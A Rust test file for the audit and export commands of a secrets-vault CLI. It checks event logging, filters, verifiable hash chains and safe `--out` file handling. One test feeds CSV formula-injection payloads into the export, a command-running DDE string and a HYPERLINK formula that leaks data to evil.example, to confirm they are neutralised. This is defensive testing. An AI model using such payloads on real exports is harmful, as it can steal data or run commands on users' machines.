//! `audit` and `audit export`: every action recorded with its actor, outcome and reason;
//! filters (key, action, time, actor or label); exports that parse back and carry
//! verifiable hashes; `--out` never clobbers or follows a link.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};

use predicates::prelude::*;
use predicates::str::contains;
use sha2::{Digest, Sha256};

use crate::support::{DAY, Sandbox, T0, audit_events, jsonl, unused_keys, vault_with_revoked_key};

#[test]
fn every_action_is_recorded_with_actor_and_reason() {
    let kw = Sandbox::with_vault();
    let v = kw.generate("K");
    kw.set("S", "imported-value");
    kw.stdout(["get", "K"]);
    kw.stdout(["rotate", "K", "--reason", "scheduled"]);
    kw.cmd(["verify"])
        .write_stdin(v.as_str())
        .assert()
        .code(4)
        .stderr(contains("rejected: `K` version 1 in `dev` is retired"));
    kw.cmd(["verify"])
        .write_stdin("unknown-thing")
        .assert()
        .code(3)
        .stderr(contains(
            "key not found: the presented key is not in environment `dev`",
        ));
    kw.cmd(["revoke", "--yes", "S", "--reason", "provider breach"])
        .assert()
        .success();
    let ev = audit_events(&kw, &[]);
    let actions: Vec<&str> = ev.iter().map(|e| e["action"].as_str().unwrap()).collect();
    assert_eq!(
        actions,
        [
            "init", "generate", "set", "get", "rotate", "verify", "verify", "revoke"
        ]
    );
    let me = kw.my_recipient();
    for e in &ev {
        assert_eq!(e["actor"]["recipient"], me.as_str());
        assert_eq!(e["actor"]["via"], "file");
        assert!(e["actor"]["host"].as_str().is_some_and(|h| !h.is_empty()));
        assert!(e["time"].as_str().unwrap().ends_with('Z'));
        assert_eq!(e["env"], "dev");
    }
    assert_eq!(ev[4]["reason"], "scheduled");
    assert_eq!(ev[4]["version"], 2);
    assert_eq!(ev[5]["outcome"], "retired");
    assert_eq!(ev[6]["outcome"], "unknown");
    assert_eq!(ev[7]["reason"], "provider breach");
    // no value anywhere in the trail
    let all = kw.stdout(["audit", "--json"]);
    assert!(!all.contains(&v));
    assert!(!all.contains("imported-value"));
}

#[test]
fn filters_select_by_key_action_time_and_limit() {
    let kw = Sandbox::with_vault();
    kw.generate("A");
    kw.generate("B");
    kw.stdout(["get", "A"]);
    kw.stdout(["get", "A"]);
    assert_eq!(audit_events(&kw, &["--key", "A"]).len(), 3);
    assert_eq!(audit_events(&kw, &["--action", "get"]).len(), 2);
    assert_eq!(audit_events(&kw, &["--since", "1h"]).len(), 5);
    assert_eq!(audit_events(&kw, &["--until", "2001-01-01"]).len(), 0);
    assert_eq!(
        audit_events(&kw, &["--since", "2001-01-01T00:00:00Z"]).len(),
        5
    );
    let last = audit_events(&kw, &["--limit", "1"]);
    assert_eq!(last.len(), 1);
    assert_eq!(last[0]["action"], "get");
    kw.cmd(["audit", "--action", "frobnicate"])
        .assert()
        .code(2)
        .stderr(contains("invalid value 'frobnicate' for '--action <A>'"));
    kw.cmd(["audit", "--since", "yesterday"])
        .assert()
        .code(2)
        .stderr(contains(
            "invalid value 'yesterday' for '--since <WHEN>': invalid date",
        ));
    kw.cmd(["-e", "prod", "generate", "P"]).assert().success();
    assert_eq!(
        audit_events(&kw, &["--all-envs", "--action", "init"]).len(),
        3
    );
}

/// Recompute an exported event's hash from its fields, as an outside system would.
fn rehash(e: &serde_json::Value) -> String {
    let time = chrono::DateTime::parse_from_rfc3339(e["time"].as_str().unwrap())
        .unwrap()
        .timestamp_millis();
    let canonical = serde_json::json!({
        "v": 1, "time": time, "env": e["env"], "action": e["action"], "key": e["key"],
        "version": e["version"], "recipient": e["actor"]["recipient"],
        "os_user": e["actor"]["os_user"], "host": e["actor"]["host"], "via": e["actor"]["via"],
        "reason": e["reason"],
        // Lifecycle events store no outcome: they export as `ok` and hash it as null.
        "outcome": if e["chain"] == "lifecycle" { serde_json::Value::Null } else { e["outcome"].clone() },
    });
    // serde_json's Map keeps insertion order only with preserve_order; build by hand.
    let order = [
        "v",
        "time",
        "env",
        "action",
        "key",
        "version",
        "recipient",
        "os_user",
        "host",
        "via",
        "reason",
        "outcome",
    ];
    let body: Vec<String> = order
        .iter()
        .map(|k| format!("\"{k}\":{}", canonical[*k]))
        .collect();
    let mut text = format!("{{{}}}", body.join(","));
    // An access for several keys hashes its `keys` appended last, as exported.
    if let Some(keys) = e.get("keys") {
        text.insert_str(text.len() - 1, &format!(",\"keys\":{keys}"));
    }
    let prev = hex::decode(e["prev_hash"].as_str().unwrap()).unwrap();
    let mut h = Sha256::new();
    h.update(&prev);
    h.update(text.as_bytes());
    hex::encode(h.finalize())
}

fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = vec![];
    let mut row = vec![];
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                field.push('"');
                chars.next();
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    rows
}

#[test]
fn exports_parse_back_and_carry_verifiable_hashes() {
    let kw = Sandbox::with_vault();
    kw.generate("K");
    kw.generate("L");
    kw.stdout(["get", "K"]);
    // One event for both keys a `run` hands out, each with its version.
    kw.cmd(["run", "--", "true"]).assert().success();
    kw.cmd([
        "revoke",
        "--yes",
        "K",
        "--reason",
        "a \"quoted\", comma\nand newline",
    ])
    .assert()
    .success();
    let json: Vec<serde_json::Value> =
        serde_json::from_str(&kw.stdout(["audit", "export", "--format", "json"])).unwrap();
    assert_eq!(json.len(), 6);
    for e in &json {
        assert_eq!(rehash(e), e["hash"].as_str().unwrap(), "{e}");
    }
    let run = json.iter().find(|e| e["action"] == "run").unwrap();
    assert_eq!(run["keys"], serde_json::json!([["K", 1], ["L", 1]]));
    assert_eq!(run["key"], serde_json::Value::Null);
    assert!(
        json.iter()
            .filter(|e| e["action"] != "run")
            .all(|e| e.get("keys").is_none())
    );
    let jsonl = kw.stdout(["audit", "export", "--format", "jsonl"]);
    let lines: Vec<serde_json::Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines, json);
    kw.cmd(["audit", "export", "--format", "csv", "--out", "audit.csv"])
        .assert()
        .success()
        .stdout("");
    let csv = fs::read_to_string(kw.path("audit.csv")).unwrap();
    let rows = parse_csv(&csv);
    assert_eq!(rows[0][0], "env");
    // Format 2 appended the subject of access changes after the hash.
    assert_eq!(rows[0][14], "hash");
    assert_eq!(rows[0][15..], ["subject", "subject_label", "keys"]);
    assert_eq!(rows.len(), 7);
    let run_row = rows.iter().find(|r| r[4] == "run").unwrap();
    assert_eq!(run_row[5], "");
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&run_row[17]).unwrap(),
        run["keys"]
    );
    assert_eq!(run_row[14], run["hash"].as_str().unwrap());
    let revoke = rows.iter().find(|r| r[4] == "revoke").unwrap();
    assert_eq!(revoke[11], "a \"quoted\", comma\nand newline");
    let json_revoke = json.iter().find(|e| e["action"] == "revoke").unwrap();
    assert_eq!(revoke[14], json_revoke["hash"].as_str().unwrap());
    kw.cmd(["audit", "export", "--format", "xml"])
        .assert()
        .code(2)
        .stderr(contains("invalid value 'xml' for '--format <FORMAT>'"));
}

#[test]
fn a_run_of_several_keys_is_one_event_that_each_of_its_keys_finds() {
    let mut kw = Sandbox::with_vault_at(T0);
    kw.generate("A");
    kw.generate("B");
    kw.generate("NEVER_READ");
    kw.at(T0 + 50 * DAY);
    kw.cmd(["run", "--only", "A,B", "--", "true"])
        .assert()
        .success();
    let runs = audit_events(&kw, &["--action", "run"]);
    assert_eq!(runs.len(), 1, "{runs:?}");
    assert_eq!(runs[0]["keys"], serde_json::json!([["A", 1], ["B", 1]]));
    assert_eq!(runs[0]["key"], serde_json::Value::Null);
    assert_eq!(runs[0]["version"], serde_json::Value::Null);
    // `--key` finds it by any key it names, and by no other.
    for name in ["A", "B"] {
        let found = audit_events(&kw, &["--key", name, "--action", "run"]);
        assert_eq!(found, runs, "--key {name}");
    }
    assert!(audit_events(&kw, &["--key", "NEVER_READ", "--action", "run"]).is_empty());
    kw.cmd(["audit", "--action", "run"])
        .assert()
        .success()
        .stdout(contains("2 keys: A, B"));
    // Asked about one key, the table shows that key and its version.
    let table = kw.stdout(["audit", "--action", "run", "--key", "B"]);
    let row = table.lines().find(|l| l.contains(" run ")).unwrap();
    assert!(row.contains("B (one of 2 keys)  1 "), "{table}");
    // Each key it names was read then: only the key it left out is unused 50 days later.
    kw.at(T0 + 100 * DAY);
    assert_eq!(unused_keys(&kw, "60d"), ["NEVER_READ"]);
    // The journal still verifies, the run event's hash covering its keys.
    kw.cmd(["audit", "verify"]).assert().success();
}

#[test]
fn refused_reads_of_a_revoked_key_are_events_with_outcome_refused() {
    let kw = vault_with_revoked_key();
    kw.cmd(["get", "K"])
        .assert()
        .code(4)
        .stderr(contains("key `K` version 1 in `dev` is revoked since"))
        .stdout("");
    kw.cmd(["export", "--format", "dotenv", "--only", "K"])
        .assert()
        .code(4)
        .stderr(contains("key `K` version 1 in `dev` is revoked since"))
        .stdout("");
    kw.cmd(["run", "--only", "K", "--", "true"])
        .assert()
        .code(4)
        .stderr(contains("key `K` version 1 in `dev` is revoked since"));
    let ev = audit_events(&kw, &["--key", "K"]);
    let refused: Vec<_> = ev.iter().filter(|e| e["outcome"] == "refused").collect();
    let actions: Vec<&str> = refused
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert_eq!(actions, ["get", "export", "run"]);
    for e in refused {
        assert_eq!(e["reason"], "revoked");
        assert_eq!(e["version"], 1);
        assert_eq!(e["chain"], "access");
    }
    kw.cmd(["audit", "verify"]).assert().success();
}

#[test]
fn a_refused_read_of_an_expired_version_names_expired() {
    let mut kw = Sandbox::with_vault_at(crate::support::T0);
    kw.cmd(["generate", "K", "--expires", "1d"])
        .assert()
        .success();
    kw.at(crate::support::T0 + 2 * crate::support::DAY);
    kw.cmd(["get", "K"]).assert().code(4).stderr(contains(
        "key `K` version 1 in `dev` is expired: it expired at",
    ));
    let last = audit_events(&kw, &["--limit", "1"]).remove(0);
    assert_eq!(last["outcome"], "refused");
    assert_eq!(last["reason"], "expired");
}

#[test]
fn lifecycle_events_read_back_with_outcome_ok_in_every_form() {
    let kw = Sandbox::with_vault();
    kw.generate("K");
    kw.stdout(["get", "K"]);
    for e in audit_events(&kw, &[]) {
        assert_eq!(e["outcome"], "ok", "{e}");
    }
    let table = kw.stdout(["audit"]);
    assert!(table.lines().next().unwrap().contains("OUTCOME"), "{table}");
    let init_row = table.lines().find(|l| l.contains("init")).unwrap();
    assert!(init_row.contains(" ok"), "{init_row}");
    let lines = jsonl(&kw.stdout(["audit", "export", "--format", "jsonl"]));
    assert!(lines.iter().all(|e| e["outcome"] == "ok"));
    let csv = kw.stdout(["audit", "export", "--format", "csv"]);
    let mut rows = csv.lines();
    let header: Vec<&str> = rows.next().unwrap().split(',').collect();
    let at = header.iter().position(|h| *h == "outcome").unwrap();
    for row in rows {
        assert_eq!(row.split(',').nth(at), Some("ok"), "{row}");
    }
    // The stored (hashed) form is unchanged: the chains still verify.
    kw.cmd(["audit", "verify"]).assert().success();
}

#[test]
fn actor_filter_matches_recipient_or_prefix_and_reported_user_or_host_apart() {
    let mut kw = Sandbox::with_vault();
    kw.set_env("USER", "alice");
    kw.generate("K");
    kw.set_env("USER", "bob");
    kw.stdout(["get", "K"]);
    kw.stdout(["get", "K"]);

    // The OS user is what the machine reported: its own filter, never --actor.
    let by_bob = audit_events(&kw, &["--os-user", "bob"]);
    assert_eq!(by_bob.len(), 2);
    assert!(by_bob.iter().all(|e| e["actor"]["os_user"] == "bob"));
    assert_eq!(audit_events(&kw, &["--os-user", "alice"]).len(), 1);
    assert_eq!(audit_events(&kw, &["--os-user", "bo"]).len(), 0);
    kw.cmd(["audit", "--json", "--actor", "bob"])
        .assert()
        .success()
        .stdout("[]\n")
        .stderr(contains("no member is `bob`").and(contains("`--os-user bob`")));

    let me = kw.my_recipient();
    let all = audit_events(&kw, &[]).len();
    assert_eq!(audit_events(&kw, &["--actor", &me]).len(), all);
    assert_eq!(audit_events(&kw, &["--actor", &me[..8]]).len(), all);
    assert_eq!(audit_events(&kw, &["--actor", &me[..7]]).len(), 0);
    let host = audit_events(&kw, &[])[0]["actor"]["host"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(audit_events(&kw, &["--host", &host]).len(), all);
    assert_eq!(audit_events(&kw, &["--actor", &host]).len(), 0);
    assert_eq!(
        audit_events(&kw, &["--host", &host, "--os-user", "bob", "--actor", &me]).len(),
        2
    );

    let exported = jsonl(&kw.stdout(["audit", "export", "--format", "jsonl", "--os-user", "bob"]));
    assert_eq!(exported, by_bob);

    for flag in ["--actor", "--os-user", "--host"] {
        kw.cmd(["audit", flag, ""])
            .assert()
            .code(2)
            .stderr(contains("cannot be empty"));
    }
}

/// A writer who reports a member's label as her `$USER` is not that member to
/// `audit --actor`: the label names the recipient the event is bound to.
#[test]
fn a_reported_os_user_equal_to_a_label_is_not_that_member() {
    let mut kw = Sandbox::with_vault();
    let ana = kw.write_identity("ana.key");
    let ra = kw.recipient_of(&ana);
    let bob = kw.write_identity("bob.key");
    let rb = kw.recipient_of(&bob);
    kw.generate("K");
    for (r, name) in [(&ra, "Ana"), (&rb, "Bob")] {
        kw.cmd(["access", "grant", r, "--name", name, "--role", "write"])
            .assert()
            .success();
    }
    kw.cmd_as(&ana, ["get", "K"]).assert().success();
    kw.set_env("USER", "Ana");
    kw.cmd_as(&bob, ["generate", "BOBS"]).assert().success();
    kw.cmd_as(&bob, ["get", "K"]).assert().success();
    let hers = audit_events(&kw, &["--actor", "Ana"]);
    assert_eq!(hers.len(), 1, "{hers:?}");
    assert_eq!(hers[0]["actor"]["recipient"], ra.as_str());
    let claimed = audit_events(&kw, &["--os-user", "Ana"]);
    assert!(
        claimed.len() == 2
            && claimed
                .iter()
                .all(|e| e["actor"]["recipient"] == rb.as_str()),
        "{claimed:?}"
    );
}

#[test]
fn audit_actor_matches_a_label() {
    let kw = Sandbox::with_vault();
    let ana = kw.write_identity("ana.key");
    let ra = kw.recipient_of(&ana);
    kw.generate("K");
    kw.cmd(["access", "grant", &ra, "--name", "Ana"])
        .assert()
        .success();
    kw.cmd_as(&ana, ["get", "K"]).assert().success();
    let got = kw.json(["audit", "--json", "--actor", "Ana"]);
    let got = got.as_array().unwrap();
    assert_eq!(got.len(), 1, "{got:?}");
    assert_eq!(got[0]["action"], "get");
    assert_eq!(got[0]["actor"]["recipient"], ra.as_str());
    // The label is exact: a part of it matches no one.
    let none = kw.json(["audit", "--json", "--actor", "An"]);
    assert_eq!(none.as_array().unwrap().len(), 0);
    // Human output names the actor by its label, with the recipient (DESIGN §16).
    let human = kw.stdout(["audit", "--actor", "Ana"]);
    assert!(human.contains(&format!("Ana ({}", &ra[..10])), "{human}");
}

fn export_to(kw: &Sandbox, path: &Path, force: bool) -> assert_cmd::Command {
    let mut c = kw.cmd(["audit", "export", "--format", "jsonl", "--out"]);
    c.arg(path);
    if force {
        c.arg("--force");
    }
    c
}

/// Names in `dir` other than `keep`: temp files left behind.
fn leftovers(dir: &Path, keep: &[&str]) -> Vec<String> {
    fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| !keep.contains(&n.as_str()))
        .collect()
}

fn export_dir(kw: &Sandbox) -> PathBuf {
    let dir = kw.path("exports");
    fs::create_dir_all(&dir).unwrap();
    dir
}

#[test]
fn export_out_writes_a_new_file_0600_and_no_temp_file() {
    let kw = Sandbox::with_vault();
    let dir = export_dir(&kw);
    let f = dir.join("audit.jsonl");
    export_to(&kw, &f, false).assert().success();
    let text = fs::read_to_string(&f).unwrap();
    assert!(text.lines().count() >= 1 && text.contains("\"action\":\"init\""));
    assert_eq!(
        fs::metadata(&f).unwrap().permissions().mode() & 0o777,
        0o600
    );
    assert_eq!(leftovers(&dir, &["audit.jsonl"]), Vec::<String>::new());
}

#[test]
fn export_out_refuses_an_existing_file_without_force() {
    let kw = Sandbox::with_vault();
    let dir = export_dir(&kw);
    let f = dir.join("audit.jsonl");
    fs::write(&f, "precious\n").unwrap();
    export_to(&kw, &f, false)
        .assert()
        .code(1)
        .stderr(contains("already exists").and(contains("--force")));
    assert_eq!(fs::read_to_string(&f).unwrap(), "precious\n");
    assert_eq!(leftovers(&dir, &["audit.jsonl"]), Vec::<String>::new());
}

#[test]
fn export_out_force_replaces_a_file_and_makes_it_0600() {
    let kw = Sandbox::with_vault();
    let dir = export_dir(&kw);
    let f = dir.join("audit.jsonl");
    fs::write(&f, "old\n").unwrap();
    fs::set_permissions(&f, fs::Permissions::from_mode(0o644)).unwrap();
    export_to(&kw, &f, true).assert().success();
    let text = fs::read_to_string(&f).unwrap();
    assert!(!text.contains("old") && text.contains("\"action\":\"init\""));
    assert_eq!(
        fs::metadata(&f).unwrap().permissions().mode() & 0o777,
        0o600
    );
    assert_eq!(leftovers(&dir, &["audit.jsonl"]), Vec::<String>::new());
}

#[test]
fn export_out_never_follows_a_symlink_even_with_force() {
    let kw = Sandbox::with_vault();
    let dir = export_dir(&kw);
    let victim = kw.path("victim.txt");
    fs::write(&victim, "precious\n").unwrap();
    let link = dir.join("audit.jsonl");
    symlink(&victim, &link).unwrap();
    for force in [false, true] {
        export_to(&kw, &link, force)
            .assert()
            .code(1)
            .stderr(contains("symbolic link"));
        assert_eq!(fs::read_to_string(&victim).unwrap(), "precious\n");
        assert!(
            fs::symlink_metadata(&link)
                .unwrap()
                .file_type()
                .is_symlink()
        );
    }
    // a dangling link: its target is not created
    let missing = kw.path("created-through-link.txt");
    let dangling = dir.join("dangling.jsonl");
    symlink(&missing, &dangling).unwrap();
    for force in [false, true] {
        export_to(&kw, &dangling, force)
            .assert()
            .code(1)
            .stderr(contains("symbolic link"));
        assert!(!missing.exists());
    }
    assert_eq!(
        leftovers(&dir, &["audit.jsonl", "dangling.jsonl"]),
        Vec::<String>::new()
    );
}

#[test]
fn a_filtered_audit_says_reads_on_other_machines_are_not_in_this_journal() {
    let kw = Sandbox::with_vault();
    kw.generate("K");
    kw.stdout(["get", "K"]);
    let scope =
        "access events from this machine's journal only; reads on other machines are not here";
    kw.cmd(["audit", "--actor", &kw.my_recipient()])
        .assert()
        .success()
        .stderr(predicates::str::contains(scope))
        .stderr(predicates::str::contains(format!(
            "`keyward check -e dev` lists what {} could decrypt",
            kw.my_recipient()
        )));
    kw.cmd(["audit", "--action", "get", "--all-envs"])
        .assert()
        .success()
        .stderr(predicates::str::contains(scope))
        .stderr(predicates::str::contains("`keyward check --all-envs`"));
    let out = kw
        .cmd(["audit", "export", "--format", "jsonl", "--key", "K"])
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stderr).contains(scope));
    assert_eq!(String::from_utf8_lossy(&out.stdout).lines().count(), 2);
    // Not filtered, or filtered on lifecycle events only: nothing to say.
    for args in [&["audit"][..], &["audit", "--action", "generate"]] {
        let out = kw.cmd(args).output().unwrap();
        assert!(out.status.success());
        assert!(!String::from_utf8_lossy(&out.stderr).contains(scope));
    }
}

/// Text a writer chose (a reason, `$USER`) that a spreadsheet would run as a formula
/// starts with `'` in the CSV export; the JSON exports keep it exact, with its hash.
#[test]
fn a_csv_export_never_hands_a_spreadsheet_a_formula() {
    let mut kw = Sandbox::with_vault();
    kw.generate("K");
    kw.set_env("USER", "@SUM(1+1)*cmd|' /C calc'!A0");
    let formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"details\")";
    kw.cmd(["revoke", "--yes", "K", "--reason", formula])
        .assert()
        .success();
    let rows = parse_csv(&kw.stdout(["audit", "export", "--format", "csv"]));
    let revoke = rows.iter().find(|r| r[4] == "revoke").unwrap();
    assert_eq!(revoke[11], format!("'{formula}"));
    assert_eq!(revoke[8], "'@SUM(1+1)*cmd|' /C calc'!A0");
    for row in &rows {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell}");
        }
    }
    let json: Vec<serde_json::Value> =
        serde_json::from_str(&kw.stdout(["audit", "export", "--format", "json"])).unwrap();
    let e = json.iter().find(|e| e["action"] == "revoke").unwrap();
    assert_eq!(e["reason"], formula);
    assert_eq!(rehash(e), e["hash"].as_str().unwrap());
    assert_eq!(revoke[14], e["hash"].as_str().unwrap());
}

/// Where an actor has no label, every view leads with the recipient the event is bound
/// to: `$USER` set to a member's name and recipient cannot open the line as that member
/// (`git diff` through textconv, as a reviewer reads it).
#[test]
fn views_lead_with_the_bound_recipient_not_the_reported_user() {
    let mut kw = Sandbox::with_vault();
    let me = kw.my_recipient();
    let short = format!("{}…{}", &me[..10], &me[me.len() - 6..]);
    kw.set_env("USER", "Alice (age1fake00…000000)");
    kw.generate("K");
    let file = kw.env_file("dev");
    let text = kw.stdout(["git".as_ref(), "textconv".as_ref(), file.as_os_str()]);
    let line = text
        .lines()
        .find(|l| l.contains(" generate K "))
        .unwrap_or_else(|| panic!("{text}"));
    assert!(
        line.contains(&format!(" by {short} as Alice (age1fake00…000000)")),
        "{line}"
    );
    let human = kw.stdout(["audit"]);
    assert!(
        human.contains(&short) && !human.contains(&format!("Alice (age1fake00…000000) ({short}")),
        "{human}"
    );
}
